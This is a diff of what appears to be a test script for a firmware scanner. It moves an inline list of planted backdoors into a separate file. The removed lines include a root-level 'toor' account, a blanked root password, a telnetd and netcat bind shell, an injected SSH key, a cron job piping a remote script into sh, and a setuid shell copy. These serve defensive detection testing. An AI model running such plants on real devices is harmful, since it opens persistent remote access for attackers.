@@ -40,16 +40,8 @@ image_mode=0
 grep -q '!/etc/passwd"' "$t/clean.json" && image_mode=1
 [ $image_mode = 1 ] || echo "# image mode skipped: this build does not open the squashfs yet (directory mode only)"
 
-plants=(
-  "/etc/passwd|echo 'toor:\$1\$Qx7\$Sg0Yw3b8Jf3kqWkqQmH7y/:0:0:toor:/root:/bin/sh' >> etc/passwd"
-  "/etc/passwd|sed -i 's/^root:\*:/root::/' etc/passwd"
-  "/etc/inittab|echo '::respawn:/usr/sbin/telnetd -F -p 2323 -l /bin/sh' >> etc/inittab"
-  "/etc/init.d/S99netd|mkdir -p etc/init.d && printf '#!/bin/sh\nnc -l -p 4444 -e /bin/sh &\n' > etc/init.d/S99netd && chmod 755 etc/init.d/S99netd"
-  "/.ssh/authorized_keys|mkdir -p .ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHmB0wZ3R0c3ZlbmRvcmtleWZvcnRlc3RpbmdvbmwAAAA vendor@factory' > .ssh/authorized_keys"
-  "/etc/ssl/private/device.key|mkdir -p etc/ssl/private && openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 2>/dev/null | openssl rsa -traditional 2>/dev/null > etc/ssl/private/device.key"
-  "/etc/crontabs/root|mkdir -p etc/crontabs && echo '*/10 * * * * wget -qO- http://203.0.113.5/u.sh | sh' > etc/crontabs/root"
-  "/lib/.x/sh|mkdir -p lib/.x && cp bin/busybox lib/.x/sh && chmod 4755 lib/.x/sh"
-)
+. "$SRC/tests/e2e/lib/plants.sh"
+plants=("${access_plants[@]}")
 for p in "${plants[@]}"; do
   file=${p%%|*} cmd=${p#*|}
   rm -rf "$t/p"; cp -a "$t/rootfs" "$t/p"
